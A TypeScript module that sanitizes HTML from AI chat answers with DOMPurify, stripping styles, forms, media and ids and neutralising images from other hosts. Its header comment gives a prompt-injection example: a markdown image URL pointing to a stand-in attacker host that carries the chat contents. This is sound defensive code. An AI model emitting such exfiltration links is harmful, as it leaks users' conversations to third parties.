/**
 * The one gate every rendered HTML string passes before it reaches the DOM
 * (DESIGN §2). DOMPurify with the HTML profile (no SVG or MathML from
 * answers: <svg onload> and friends have nowhere to hide), no scripts, no
 * event handlers, no javascript: or other non-navigational URLs (DOMPurify's
 * URI allow-list), and additionally:
 * - no style attributes or <style>: an answer must not restyle or overlay
 *   the page around it (KaTeX's inline styles are added after this gate,
 *   see render-block.ts);
 * - no forms or form fields but the disabled checkbox of a task list: an
 *   answer must not ask for a password;
 * - no media that plays, no ids or names (they would collide with the ids of
 *   the element around the answer), no tabindex or autofocus;
 * - links open in a new tab without opener or referrer; images load lazily
 *   without telling the image host which page they are on;
 * - images from other hosts do not load by themselves: a prompt-injected
 *   `![](https://attacker/x.png?d=<the chat>)` would send the conversation
 *   away with no click. They become a link (the alt text and the host) that
 *   opens the image in a new tab only when clicked; the pages' CSP `img-src`
 *   enforces the same (README, Security).
 */
import DOMPurify, { type Config } from 'dompurify'
import { escapeHtml } from './escape-html'

const CONFIG: Config = {
  USE_PROFILES: { html: true },
  FORBID_TAGS: [
    'style',
    'form',
    'textarea',
    'select',
    'option',
    'optgroup',
    'datalist',
    'dialog',
    'audio',
    'video',
    'source',
    'track',
    'picture',
    'map',
    'area',
  ],
  FORBID_ATTR: ['style', 'id', 'name', 'tabindex', 'autofocus', 'form', 'formaction', 'action', 'srcset'],
  ALLOW_DATA_ATTR: false,
}

/** The words of the placeholder of an image from another host (set for one sanitize call). */
let externalImageLabel = 'Image from another site, click to open'

/** Same site, data: or blob: (what the pages' CSP lets an <img> load). */
function loadsHere(src: string): boolean {
  try {
    const url = new URL(src, location.href)
    return url.protocol === 'data:' || url.protocol === 'blob:' || url.origin === location.origin
  } catch {
    return false
  }
}

/** An <img> of another host, as a link to it that loads nothing until clicked. */
function imagePlaceholder(img: Element): HTMLAnchorElement {
  const src = img.getAttribute('src') ?? ''
  const link = img.ownerDocument.createElement('a')
  link.setAttribute('href', src)
  link.setAttribute('class', 'zx-md-external-image')
  let host = ''
  try {
    host = new URL(src, location.href).host
  } catch {
    // not a URL: DOMPurify's URI check below drops the href
  }
  const alt = img.getAttribute('alt')?.trim()
  link.textContent = `🖼 ${alt ? `${alt} · ` : ''}${externalImageLabel}${host ? ` (${host})` : ''}`
  return link
}

// An instance of our own: hooks added here do not affect other DOMPurify users in the bundle.
const purify = typeof window === 'undefined' ? null : DOMPurify(window)

purify?.addHook('afterSanitizeAttributes', node => {
  switch (node.nodeName) {
    case 'A':
      if (node.hasAttribute('href')) {
        node.setAttribute('target', '_blank')
        node.setAttribute('rel', 'noopener noreferrer')
      }
      break
    case 'IMG':
      if (!loadsHere(node.getAttribute('src') ?? '')) {
        // The node iterator moves on to the link put in its place, which is sanitized like any link.
        node.replaceWith(imagePlaceholder(node))
        break
      }
      node.setAttribute('loading', 'lazy')
      node.setAttribute('referrerpolicy', 'no-referrer')
      break
    case 'INPUT':
      // Task-list checkboxes are the only inputs answers need; whatever an
      // answer writes becomes one, and none can be ticked.
      node.setAttribute('type', 'checkbox')
      node.setAttribute('disabled', '')
      break
  }
})

// Set once: passing the config to every sanitize() call re-parses it each
// time, which was a fifth of the cost of rendering a streamed tail.
purify?.setConfig(CONFIG)

/**
 * Safe HTML from untrusted HTML. Without a DOM to sanitize with, fails closed: the markup shows as text.
 * `externalImage`: the words on the placeholder of an image from another host (the locale's).
 */
export function sanitizeHtml(html: string, words: { externalImage?: string } = {}): string {
  if (!purify?.isSupported) return escapeHtml(html)
  const previous = externalImageLabel
  if (words.externalImage) externalImageLabel = words.externalImage
  try {
    return purify.sanitize(html) as string
  } finally {
    externalImageLabel = previous
  }
}
